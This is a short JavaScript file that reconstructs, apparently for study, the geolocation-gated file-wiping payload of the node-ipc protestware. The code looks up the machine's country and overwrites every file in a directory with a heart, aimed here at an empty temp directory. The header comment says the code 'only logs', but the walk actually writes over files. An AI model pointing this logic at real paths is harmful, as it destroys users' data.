// defanged node-ipc shape: the walk starts in an empty temp dir and only logs
const fs = require('fs');
const os = require('os');
const path = require('path');
const https = require('https');

function walk(dir) {
  for (const name of fs.readdirSync(dir)) {
    const p = path.join(dir, name);
    if (fs.statSync(p).isDirectory()) walk(p);
    else fs.writeFileSync(p, '\u2764\ufe0f'); // the payload wrote a heart over every file
  }
}

https.get('https://api.ipgeolocation.io/ipgeo?apiKey=0000', res => {
  let d = '';
  res.on('data', c => (d += c));
  res.on('end', () => {
    const { country_name } = JSON.parse(d);
    if (country_name === 'russia' || country_name === 'belarus') {
      walk(fs.mkdtempSync(path.join(os.tmpdir(), 'defanged-')));
    }
  });
}).on('error', () => {});
